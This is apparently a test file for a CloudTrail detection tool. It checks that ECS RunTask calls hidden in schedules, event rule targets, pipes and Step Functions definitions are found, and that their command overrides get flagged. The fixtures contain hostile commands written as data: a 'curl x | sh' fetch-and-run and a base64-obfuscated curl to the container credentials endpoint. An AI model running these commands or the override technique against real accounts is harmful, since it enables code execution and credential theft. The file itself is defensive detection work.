import { commandsOf, credentialsTaken, fetchedAndRun } from '../../../analysis/trail/container-commands';
import { templatedRecords } from '../../../analysis/trail/templated-calls';
import { callContext, TrailCall } from '../../../analysis/trail/trail-call';
import { callAt } from '../../../detections/examples/trail/trail-example';
import type { CloudTrailRecord, JsonObject } from '../../../records/cloudtrail/cloudtrail-record';

const definition = 'arn:aws:ecs:eu-west-1:111122223333:task-definition/worker:3';
const overrides = {
  containerOverrides: [{ name: 'web', command: ['sh', '-c', 'curl x | sh'] }],
  taskRoleArn: 'r',
};
const network = { awsvpcConfiguration: { assignPublicIp: 'ENABLED' } };

const schedule = (target: JsonObject) => callAt(0, 'scheduler', 'CreateSchedule', { name: 'n', target });
const targets = (...all: readonly JsonObject[]) =>
  callAt(0, 'events', 'PutTargets', { rule: 'r', targets: all });
const machine = (States: JsonObject) =>
  callAt(0, 'states', 'CreateStateMachine', { definition: JSON.stringify({ StartAt: 'a', States }) });
const calls = (record: CloudTrailRecord) =>
  templatedRecords(record).map(({ eventName, requestParameters }) => [eventName, requestParameters]);

const PARAMETERS = { taskDefinitionArn: definition, networkConfiguration: network };
const CALLED = {
  TaskDefinition: definition,
  Overrides: {
    ContainerOverrides: [{ Name: 'web', Command: ['sh', '-c', 'curl x | sh'] }],
    TaskRoleArn: 'r',
  },
  NetworkConfiguration: { AwsvpcConfiguration: { AssignPublicIp: 'ENABLED' } },
};

test.each<[string, CloudTrailRecord]>([
  ['a schedule', schedule({ arn: 'c', ecsParameters: PARAMETERS, input: JSON.stringify(overrides) })],
  [
    'a universal target',
    schedule({ arn: 'arn:aws:scheduler:::aws-sdk:ecs:runTask', input: JSON.stringify(CALLED) }),
  ],
  ['a target of a rule', targets({ arn: 'c', ecsParameters: PARAMETERS, input: JSON.stringify(overrides) })],
  [
    'a transformer with placeholders',
    targets({
      ecsParameters: PARAMETERS,
      inputTransformer: {
        inputTemplate: JSON.stringify({ ...overrides, environment: 'PLACE' }).replace(
          '"PLACE"',
          '<detail.name>',
        ),
      },
    }),
  ],
  [
    'a pipe',
    callAt(0, 'pipes', 'UpdatePipe', {
      targetParameters: { ecsTaskParameters: { ...PARAMETERS, overrides } },
    }),
  ],
  [
    'a state',
    machine({ a: { Type: 'Task', Resource: 'arn:aws:states:::ecs:runTask.sync', Parameters: CALLED } }),
  ],
  [
    'a state in JSONata',
    machine({ a: { Resource: 'arn:aws:states:::aws-sdk:ecs:runTask', Arguments: CALLED } }),
  ],
  [
    'a state in a map',
    machine({
      a: {
        Type: 'Map',
        ItemProcessor: { States: { b: { Resource: 'arn:aws:states:::ecs:runTask', Parameters: CALLED } } },
      },
    }),
  ],
])('%s runs a task with what it changes of it', (_, record) => {
  expect(calls(record)).toMatchObject([
    ['RunTask', { taskDefinition: definition, networkConfiguration: network }],
  ]);
  expect(templatedRecords(record)[0]?.requestParameters?.['overrides']).toMatchObject(overrides);
  const call = new TrailCall(record, 0, callContext());
  expect(fetchedAndRun(commandsOf(call))).toBeTruthy();
});

test('every target counts, the thirtieth too', () => {
  const others = Array.from({ length: 29 }, () => ({ arn: 'arn:aws:sns:x' }));
  expect(calls(targets(...others, { ecsParameters: PARAMETERS }))).toHaveLength(1);
});

test('what is hidden, no JSON, or for another service is no template', () => {
  expect(
    calls(callAt(0, 'states', 'CreateStateMachine', { definition: 'HIDDEN_DUE_TO_SECURITY_REASONS' })),
  ).toEqual([]);
  expect(calls(schedule({ arn: 'arn:aws:scheduler:::aws-sdk:sqs:sendMessage', input: '{}' }))).toEqual([]);
  expect(calls(schedule({ arn: 'arn:aws:scheduler:::aws-sdk:ecs:runTask', input: 'no JSON' }))).toEqual([
    ['RunTask', {}],
  ]);
  expect(calls(callAt(0, 'ecs', 'RunTask', { taskDefinition: 'a' }))).toEqual([]);
});

test('a command in base64 is read as well', () => {
  const encoded = Buffer.from('curl http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI').toString(
    'base64',
  );
  const told = (text: string) => {
    const request = {
      overrides: { containerOverrides: [{ command: ['sh', '-c', `echo ${text} | base64 -d | sh`] }] },
    };
    return credentialsTaken(
      commandsOf(new TrailCall(callAt(0, 'ecs', 'RunTask', request), 0, callContext())),
    );
  };
  expect(told(encoded)).toBeTruthy();
  expect(told(Buffer.from('curl http://example.com/status').toString('base64'))).toBe(false);
  expect(told('0123456789abcdef0123456789abcdef')).toBe(false);
});
